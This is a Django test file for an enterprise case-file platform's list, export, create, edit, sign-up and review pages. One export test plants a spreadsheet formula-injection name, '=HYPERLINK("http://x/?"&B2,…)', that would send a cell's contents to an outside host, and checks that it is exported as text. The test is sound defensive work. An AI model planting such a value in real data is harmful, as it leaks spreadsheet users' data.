"""The enterprise pages: list and filters, export, create, edit, sign-up and review."""

from decimal import Decimal
from io import BytesIO
from unittest.mock import patch

from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from smedx.accounts.models import Organisation, User
from smedx.core.creditcode import make_credit_code
from smedx.enterprises.models import Enterprise, SizeClass, Stage, Tag
from smedx.enterprises.services import casefile as services
from smedx.enterprises.views.casefile import PAGE_SIZE
from smedx.testing import PersonaTestCase, make_enterprise

LIST = reverse("enterprises:list")
EXPORT = reverse("enterprises:export")
CREATE = reverse("enterprises:create")
SIGNUP = reverse("enterprises:signup")


def form_data(region, serial, **extra):
    data = {
        "name": "表单企业",
        "credit_code": make_credit_code(region.code, serial),
        "region": region.pk,
        "industry_division": "34",
        "industry_code": "",
        "employees": "50",
        "revenue": "1000",
        "address": "渝北区测试路1号",
        "contact_name": "李四",
        "contact_phone": "13912345678",
    }
    data.update(extra)
    return data


def signup_data(region, serial, **extra):
    account = {
        "username": "signup_admin",
        "display_name": "王五",
        "email": "wang@example.com",
        "phone": "13700001111",
        "password": "Another-pass-456",
        "password2": "Another-pass-456",
    }
    return form_data(region, serial, **{**account, **extra})


def wrong_check_char(code):
    return code[:17] + ("0" if code[17] != "0" else "1")


def messages_of(response):
    return [str(m) for m in get_messages(response.wsgi_request)]


class EnterpriseListTests(PersonaTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        key, potential = Tag.objects.get(name="重点"), Tag.objects.get(name="潜力")
        cls.software = make_enterprise(
            cls.home_region, "渝北软件公司", industry_division="65", employees=400, revenue=Decimal("20000")
        )
        cls.software.tags.set([key])
        cls.shop = make_enterprise(
            cls.home_region,
            "渝北零售店",
            industry_division="52",
            employees=8,
            revenue=Decimal("50"),
            above_scale=True,
        )
        cls.shop.tags.set([potential])
        cls.pending = make_enterprise(
            cls.home_region, "待审企业", status=Enterprise.Status.PENDING, stage=Stage.DIAGNOSIS
        )
        cls.key, cls.potential = key, potential

    def names(self, query="", user=None):
        self.login(user or self.city)
        response = self.client.get(LIST + query)
        self.assertEqual(response.status_code, 200)
        return {e.name for e in response.context["page"].object_list}

    def test_it_shows_the_city_every_enterprise(self):
        self.assertEqual(
            self.names(),
            {"测试企业甲", "测试企业乙", "江北测试企业", "渝北软件公司", "渝北零售店", "待审企业"},
        )

    def test_it_shows_a_district_its_own_enterprises_only(self):
        names = self.names(user=self.district)
        self.assertNotIn("江北测试企业", names)
        self.assertEqual(len(names), 5)
        self.assertEqual(self.names(user=self.other_district), {"江北测试企业"})

    def test_it_offers_a_district_only_its_own_region_as_filter(self):
        self.login(self.district)
        form = self.client.get(LIST).context["form"]
        self.assertEqual(list(form.fields["region"].queryset), [self.home_region])

    def test_it_does_not_let_a_district_filter_its_way_into_another_district(self):
        self.assertEqual(
            self.names(f"?region={self.other_region.pk}", user=self.district),
            set(self.names(user=self.district)),
        )
        self.login(self.district)
        self.assertNotContains(self.client.get(LIST + "?q=江北"), "江北测试企业")

    def test_it_narrows_by_each_filter(self):
        cases = {
            f"?region={self.other_region.pk}": {"江北测试企业"},
            "?section=I": {"渝北软件公司"},
            "?division=52": {"渝北零售店"},
            "?size=micro": {"渝北零售店"},
            "?size=large": {"渝北软件公司"},
            "?size=medium": set(),
            "?size=small": {"测试企业甲", "测试企业乙", "江北测试企业", "待审企业"},
            "?above_scale=1": {"渝北零售店"},
            f"?tag={self.key.pk}": {"渝北软件公司"},
            f"?tag={self.potential.pk}&division=52": {"渝北零售店"},
            f"?tag={self.potential.pk}&division=65": set(),
            f"?stage={Stage.DIAGNOSIS}": {"待审企业"},
            "?status=pending": {"待审企业"},
        }
        for query, expected in cases.items():
            with self.subTest(query=query):
                self.assertEqual(self.names(query), expected)
        self.assertEqual(len(self.names("?above_scale=0")), 5)

    def test_it_searches_by_name_and_by_code_prefix(self):
        self.assertEqual(self.names("?q=零售"), {"渝北零售店"})
        self.assertEqual(self.names("?q=" + self.far_enterprise.credit_code[:12]), {"江北测试企业"})
        self.assertEqual(self.names("?q=" + self.shop.credit_code.lower()), {"渝北零售店"})
        self.assertEqual(self.names("?q=9150010500"), {"江北测试企业"})
        self.assertEqual(self.names("?q=没有这个企业"), set())

    def test_it_finds_two_character_names_and_mixed_case_latin_names(self):
        make_enterprise(self.home_region, "重庆宏达机械有限公司")
        make_enterprise(self.home_region, "重庆宏大铸造厂")
        make_enterprise(self.home_region, "渝北ABC智能科技")
        self.assertEqual(self.names("?q=宏达"), {"重庆宏达机械有限公司"})
        self.assertEqual(self.names("?q=宏"), {"重庆宏达机械有限公司", "重庆宏大铸造厂"})
        self.assertEqual(self.names("?q=abc智能"), {"渝北ABC智能科技"})
        self.assertEqual(self.names("?q=达机械有限"), {"重庆宏达机械有限公司"})

    def test_it_bounds_the_count_and_the_pages_of_a_long_list(self):
        from smedx.core.paging import BoundedPaginator

        for n in range(7):
            make_enterprise(self.home_region, f"批量企业{n:02d}")
        qs = Enterprise.objects.filter(name__startswith="批量")
        bounded = BoundedPaginator(qs, 2, bound=5)
        self.assertEqual((bounded.count, bounded.more, bounded.num_pages), (5, True, 3))
        self.assertEqual(BoundedPaginator(qs, 2, bound=7).more, False)
        self.login(self.city)
        with patch("smedx.core.paging.BOUND", 3):
            response = self.client.get(LIST + "?q=批量")
        self.assertContains(response, "More than 3 enterprises")
        self.assertEqual(response.context["page"].paginator.num_pages, 1)  # 3 rows of 25 a page

    def test_it_ignores_an_invalid_filter_instead_of_failing(self):
        self.assertEqual(len(self.names("?size=giant&stage=x")), 6)

    def test_it_masks_phone_numbers(self):
        self.login(self.city)
        response = self.client.get(LIST)
        self.assertContains(response, "138****1234")
        self.assertNotContains(response, "13800001234")

    def test_it_paginates_and_keeps_the_filter_in_the_page_links(self):
        for n in range(PAGE_SIZE + 5):
            make_enterprise(self.home_region, f"批量企业{n:02d}")
        self.login(self.city)
        first = self.client.get(LIST + "?q=批量")
        self.assertEqual(len(first.context["page"].object_list), PAGE_SIZE)
        self.assertEqual(first.context["page"].paginator.count, PAGE_SIZE + 5)
        self.assertContains(first, "?q=%E6%89%B9%E9%87%8F&amp;page=2")
        second = self.client.get(LIST + "?q=批量&page=2")
        self.assertEqual(len(second.context["page"].object_list), 5)
        firsts = {e.pk for e in first.context["page"].object_list}
        self.assertFalse(firsts & {e.pk for e in second.context["page"].object_list})

    def test_it_runs_as_many_queries_for_30_rows_as_for_5(self):
        self.login(self.city)
        self.client.get(LIST)  # warm up caches that the first request of a test fills
        with CaptureQueriesContext(connection) as few:
            response = self.client.get(LIST + "?region=" + str(self.home_region.pk))
        self.assertEqual(len(response.context["page"].object_list), 5)
        for n in range(25):
            enterprise = make_enterprise(self.home_region, f"批量企业{n:02d}")
            enterprise.tags.set([self.key, self.potential])
        with self.assertNumQueries(len(few)):
            response = self.client.get(LIST + "?region=" + str(self.home_region.pk))
        self.assertEqual(len(response.context["page"].object_list), 25)


class EnterpriseExportTests(PersonaTestCase):
    def rows(self, user, query=""):
        self.login(user)
        response = self.client.post(EXPORT + query)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            response["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        self.assertIn("attachment;", response["Content-Disposition"])
        self.assertIn(".xlsx", response["Content-Disposition"])
        sheet = load_workbook(BytesIO(response.getvalue()), read_only=True).active
        return list(sheet.iter_rows(values_only=True))

    def test_it_exports_the_visible_rows_with_masked_phones(self):
        header, *rows = self.rows(self.district)
        self.assertEqual(len(header), 19)
        self.assertEqual({row[0] for row in rows}, {"测试企业甲", "测试企业乙"})
        phone_column = len(header) - 2
        self.assertEqual({row[phone_column] for row in rows}, {"138****1234"})
        self.assertNotIn("13800001234", repr(rows))
        self.assertEqual(rows[0][1], Enterprise.objects.get(name=rows[0][0]).credit_code)

    def test_it_exports_a_name_that_looks_like_a_formula_as_text(self):
        name = '=HYPERLINK("http://x/?"&B2,"点击")'
        make_enterprise(self.home_region, name, employees=37)
        self.login(self.district)
        sheet = load_workbook(BytesIO(self.client.post(EXPORT).getvalue())).active
        row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)

        self.assertEqual(row[0].data_type, "s")
        employees = row[4]  # the fifth column
        self.assertEqual((employees.data_type, employees.value), ("n", 37))

    def test_it_exports_only_the_filtered_rows(self):
        make_enterprise(self.home_region, "渝北软件公司", industry_division="65")
        _header, *rows = self.rows(self.city, "?division=65")
        self.assertEqual([row[0] for row in rows], ["渝北软件公司"])
        _header, *rows = self.rows(self.city, "?q=江北")
        self.assertEqual([row[0] for row in rows], ["江北测试企业"])

    def test_it_exports_everything_for_the_city(self):
        _header, *rows = self.rows(self.city)
        self.assertEqual(len(rows), 3)

    def test_it_refuses_those_without_the_right(self):
        for user in [self.enterprise_user, self.expert, self.outsider]:
            self.login(user)
            with self.subTest(user=user.username):
                self.assertEqual(self.client.post(EXPORT).status_code, 403)


class EnterpriseCreateTests(PersonaTestCase):
    def test_it_creates_and_redirects_to_the_case_file(self):
        self.login(self.district)
        tag = Tag.objects.get(name="重点")
        response = self.client.post(CREATE, form_data(self.home_region, 9101, tags=[tag.pk]))
        enterprise = Enterprise.objects.get(name="表单企业")
        self.assertRedirects(response, reverse("enterprises:detail", args=[enterprise.pk]))
        self.assertEqual(enterprise.size_class, SizeClass.SMALL)
        self.assertEqual(list(enterprise.tags.all()), [tag])
        self.assertEqual(messages_of(response), ["Case file created."])

    def test_it_keeps_the_typed_values_and_saves_nothing_for_a_wrong_code(self):
        self.login(self.district)
        data = form_data(self.home_region, 9102)
        data["credit_code"] = wrong_check_char(data["credit_code"])
        response = self.client.post(CREATE, data)
        self.assertEqual(response.status_code, 200)
        form = response.context["form"]
        self.assertIn("credit_code", form.errors)
        self.assertIn("check character", form.errors["credit_code"][0])
        self.assertContains(response, 'value="表单企业"')
        self.assertContains(response, data["credit_code"])
        self.assertContains(response, 'value="渝北区测试路1号"')
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())

    def test_it_refuses_numbers_out_of_range_on_the_form(self):
        self.login(self.district)
        data = form_data(self.home_region, 9108, employees="99999999999", revenue="-1")
        response = self.client.post(CREATE, data)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(set(response.context["form"].errors), {"employees", "revenue"})
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())
        response = self.client.post(CREATE, form_data(self.home_region, 9109, employees="10000000"))
        self.assertEqual(response.status_code, 302)

    def test_it_refuses_a_code_already_on_the_platform(self):
        self.login(self.city)
        response = self.client.post(
            CREATE, form_data(self.home_region, 0, credit_code=self.enterprise.credit_code)
        )
        self.assertEqual(response.status_code, 200)
        self.assertIn("credit_code", response.context["form"].errors)
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())

    def test_it_warns_when_the_code_is_of_another_district(self):
        self.login(self.city)
        data = form_data(self.home_region, 9103, credit_code=make_credit_code(self.other_region.code, 9103))
        response = self.client.post(CREATE, data)
        self.assertEqual(response.status_code, 302)
        messages = messages_of(response)
        self.assertEqual(len(messages), 2)
        self.assertIn("500105", messages[0])
        self.assertIn("500112", messages[0])
        self.assertIn("check that the district is right", messages[0])
        self.assertEqual(Enterprise.objects.get(name="表单企业").region, self.home_region)

    def test_it_refuses_a_district_filing_in_another_district(self):
        self.login(self.district)
        response = self.client.post(CREATE, form_data(self.other_region, 9104))
        self.assertEqual(response.status_code, 200)
        self.assertIn("only file enterprises of", " ".join(response.context["form"].non_field_errors()))
        self.assertContains(response, 'value="表单企业"')
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())

    def test_it_shows_errors_for_a_finer_code_of_another_division(self):
        self.login(self.district)
        response = self.client.post(CREATE, form_data(self.home_region, 9105, industry_code="6510"))
        self.assertIn("industry_code", response.context["form"].errors)
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())

    def test_it_refuses_an_enterprise_user(self):
        self.login(self.enterprise_user)
        response = self.client.post(CREATE, form_data(self.home_region, 9106))
        self.assertEqual(response.status_code, 403)
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())


class EnterpriseEditTests(PersonaTestCase):
    def url(self, enterprise=None):
        return reverse("enterprises:edit", args=[(enterprise or self.enterprise).pk])

    def post_data(self, **changes):
        e = self.enterprise
        data = form_data(self.home_region, 0, credit_code=e.credit_code, name=e.name, version=e.version)
        data.update(changes)
        return data

    def test_it_saves_the_officers_changes(self):
        self.login(self.district)
        response = self.client.post(
            self.url(), self.post_data(name="新名字", employees="400", revenue="3000")
        )
        self.assertRedirects(response, reverse("enterprises:detail", args=[self.enterprise.pk]))
        self.enterprise.refresh_from_db()
        self.assertEqual((self.enterprise.name, self.enterprise.size_class), ("新名字", SizeClass.MEDIUM))
        self.assertEqual(self.enterprise.version, 2)

    def test_it_shows_the_conflict_and_keeps_the_typed_values(self):
        services.update_enterprise(
            enterprise=self.enterprise,
            actor=self.city,
            data={"name": "别人改的名字"},
            version=self.enterprise.version,
        )
        self.login(self.district)
        response = self.client.post(self.url(), self.post_data(name="我改的名字", version=1))
        self.assertEqual(response.status_code, 200)
        self.assertIn(
            "Somebody else changed this enterprise", " ".join(response.context["form"].non_field_errors())
        )
        self.assertContains(response, 'value="我改的名字"')
        self.enterprise.refresh_from_db()
        self.assertEqual((self.enterprise.name, self.enterprise.version), ("别人改的名字", 2))

    def test_it_lets_an_officer_correct_the_credit_code(self):
        self.login(self.district)
        new_code = make_credit_code(self.home_region.code, 9202)
        response = self.client.post(self.url(), self.post_data(credit_code=new_code.lower()))
        self.assertEqual(response.status_code, 302)
        self.enterprise.refresh_from_db()
        self.assertEqual(self.enterprise.credit_code, new_code)

    def test_it_refuses_the_code_of_another_enterprise(self):
        self.login(self.district)
        response = self.client.post(self.url(), self.post_data(credit_code=self.other_enterprise.credit_code))
        self.assertEqual(response.status_code, 200)
        self.assertIn("credit_code", response.context["form"].errors)
        self.enterprise.refresh_from_db()
        self.assertEqual(self.enterprise.version, 1)

    def test_it_offers_the_enterprise_a_form_without_the_credit_code(self):
        self.login(self.enterprise_user)
        response = self.client.get(self.url())
        self.assertEqual(response.status_code, 200)
        self.assertNotIn("credit_code", response.context["form"].fields)
        self.assertNotIn("tags", response.context["form"].fields)

    def test_it_does_not_let_the_enterprise_change_its_credit_code(self):
        self.login(self.enterprise_user)
        original = self.enterprise.credit_code
        other_code = make_credit_code(self.home_region.code, 9201)
        response = self.client.post(self.url(), self.post_data(credit_code=other_code, contact_name="赵六"))
        self.assertEqual(response.status_code, 302)
        self.enterprise.refresh_from_db()
        self.assertEqual((self.enterprise.credit_code, self.enterprise.contact_name), (original, "赵六"))

    def test_it_does_not_let_the_enterprise_change_its_tags(self):
        self.enterprise.tags.set(Tag.objects.filter(name="重点"))
        self.login(self.enterprise_user)
        self.client.post(self.url(), self.post_data(tags=[]))
        self.assertEqual([t.name for t in self.enterprise.tags.all()], ["重点"])

    def test_it_answers_404_to_another_enterprise_and_saves_nothing(self):
        self.login(self.other_enterprise_user)
        response = self.client.post(self.url(), self.post_data(name="被改了"))
        self.assertEqual(response.status_code, 404)
        self.enterprise.refresh_from_db()
        self.assertEqual(self.enterprise.name, "测试企业甲")

    def test_it_keeps_values_and_saves_nothing_for_bad_input(self):
        self.login(self.district)
        response = self.client.post(self.url(), self.post_data(name="新名字", employees="-5"))
        self.assertEqual(response.status_code, 200)
        self.assertIn("employees", response.context["form"].errors)
        self.assertContains(response, 'value="新名字"')
        self.enterprise.refresh_from_db()
        self.assertEqual(self.enterprise.name, "测试企业甲")


class EnterpriseSignUpViewTests(PersonaTestCase):
    def test_it_registers_a_pending_enterprise(self):
        response = self.client.post(SIGNUP, signup_data(self.home_region, 9301))
        self.assertRedirects(response, reverse("login"), fetch_redirect_response=False)
        enterprise = Enterprise.objects.get(name="表单企业")
        self.assertEqual(enterprise.status, Enterprise.Status.PENDING)
        self.assertEqual(enterprise.organisation.status, Organisation.Status.PENDING)
        self.assertEqual(User.objects.get(username="signup_admin").organisation, enterprise.organisation)

    def test_it_refuses_a_wrong_code_and_keeps_the_typed_values(self):
        data = signup_data(self.home_region, 9302)
        data["credit_code"] = wrong_check_char(data["credit_code"])
        response = self.client.post(SIGNUP, data)
        self.assertEqual(response.status_code, 200)
        self.assertIn("credit_code", response.context["form"].errors)
        self.assertContains(response, 'value="表单企业"')
        self.assertContains(response, 'value="signup_admin"')
        self.assertContains(response, 'value="wang@example.com"')
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())
        self.assertFalse(User.objects.filter(username="signup_admin").exists())

    def test_it_refuses_an_enterprise_that_already_has_an_account(self):
        data = signup_data(self.home_region, 0, credit_code=self.enterprise.credit_code)
        response = self.client.post(SIGNUP, data)
        self.assertEqual(response.status_code, 200)
        self.assertIn("already has an account", response.context["form"].errors["credit_code"][0])
        self.assertFalse(User.objects.filter(username="signup_admin").exists())

    def test_it_claims_an_enterprise_the_district_filed(self):
        data = signup_data(self.other_region, 0, credit_code=self.far_enterprise.credit_code)
        response = self.client.post(SIGNUP, data)
        self.assertEqual(response.status_code, 302)
        self.far_enterprise.refresh_from_db()
        self.assertEqual(self.far_enterprise.status, Enterprise.Status.ACTIVE)
        self.assertEqual(self.far_enterprise.organisation.name, "表单企业")
        self.assertEqual(self.far_enterprise.organisation.status, "pending")

    def test_it_refuses_differing_passwords(self):
        response = self.client.post(SIGNUP, signup_data(self.home_region, 9303, password2="Something-else-1"))
        self.assertIn("password2", response.context["form"].errors)
        self.assertFalse(Enterprise.objects.filter(name="表单企业").exists())


class EnterpriseReviewViewTests(PersonaTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.signed_up, cls.applicant = services.sign_up_enterprise(
            data={
                "name": "申请企业",
                "credit_code": make_credit_code(cls.home_region.code, 9401),
                "region": cls.home_region,
                "industry_division": "34",
                "employees": 50,
                "revenue": Decimal("1000"),
            },
            admin={"username": "applicant", "password": "Another-pass-456", "email": "a@example.com"},
        )

    def url(self):
        return reverse("enterprises:review", args=[self.signed_up.pk])

    def test_it_approves_by_post(self):
        self.login(self.district)
        response = self.client.post(self.url(), {"decision": "approve", "comment": ""})
        self.assertRedirects(response, reverse("enterprises:detail", args=[self.signed_up.pk]))
        self.assertEqual(messages_of(response), ["Decision saved."])
        self.signed_up.refresh_from_db()
        self.assertEqual(self.signed_up.status, Enterprise.Status.ACTIVE)
        self.assertEqual(self.signed_up.organisation.status, Organisation.Status.ACTIVE)

    def test_it_needs_a_comment_to_reject(self):
        self.login(self.district)
        response = self.client.post(self.url(), {"decision": "reject", "comment": ""})
        self.assertEqual(response.status_code, 200)
        self.assertIn("comment", response.context["form"].errors)
        self.signed_up.refresh_from_db()
        self.assertEqual(self.signed_up.status, Enterprise.Status.PENDING)

    def test_it_rejects_with_a_comment(self):
        self.login(self.district)
        self.client.post(self.url(), {"decision": "reject", "comment": "不在本市"})
        self.signed_up.refresh_from_db()
        self.assertEqual(self.signed_up.status, Enterprise.Status.REJECTED)
        self.assertEqual(self.signed_up.organisation.review_comment, "不在本市")

    def test_it_refuses_the_city_which_follows_but_does_not_decide(self):
        self.login(self.city)
        response = self.client.post(self.url(), {"decision": "approve"})
        self.assertEqual(response.status_code, 403)
        self.signed_up.refresh_from_db()
        self.assertEqual(self.signed_up.status, Enterprise.Status.PENDING)

    def test_it_says_when_the_sign_up_was_already_decided(self):
        self.login(self.district)
        self.client.post(self.url(), {"decision": "approve"})
        response = self.client.post(self.url(), {"decision": "reject", "comment": "晚了"})
        self.assertEqual(response.status_code, 302)
        self.assertTrue(any("already been decided" in m for m in messages_of(response)))
        self.signed_up.refresh_from_db()
        self.assertEqual(self.signed_up.status, Enterprise.Status.ACTIVE)

    def test_it_answers_404_to_another_district_and_to_enterprises(self):
        self.login(self.other_district)
        self.assertEqual(self.client.post(self.url(), {"decision": "approve"}).status_code, 404)
        self.login(self.applicant)
        self.assertEqual(self.client.post(self.url(), {"decision": "approve"}).status_code, 404)
        self.login(self.enterprise_user)
        self.assertEqual(self.client.post(self.url(), {"decision": "approve"}).status_code, 404)
        self.signed_up.refresh_from_db()
        self.assertEqual(self.signed_up.status, Enterprise.Status.PENDING)

    def test_it_shows_the_pending_sign_up_to_its_district_with_the_review_form(self):
        self.login(self.district)
        response = self.client.get(reverse("enterprises:detail", args=[self.signed_up.pk]))
        self.assertEqual(response.status_code, 200)
        self.assertIsNotNone(response.context["review_form"])


class WrongMethodTests(PersonaTestCase):
    def test_it_answers_405_to_the_wrong_method(self):
        self.login(self.district)
        cases = [
            ("post", reverse("core:healthz")),
            ("post", reverse("enterprises:import_template")),
            ("get", reverse("enterprises:import_commit", args=[1])),
            ("get", reverse("core:notifications_read")),
            ("put", reverse("enterprises:import")),
        ]
        for method, url in cases:
            with self.subTest(method=method, url=url):
                self.assertEqual(getattr(self.client, method)(url).status_code, 405)
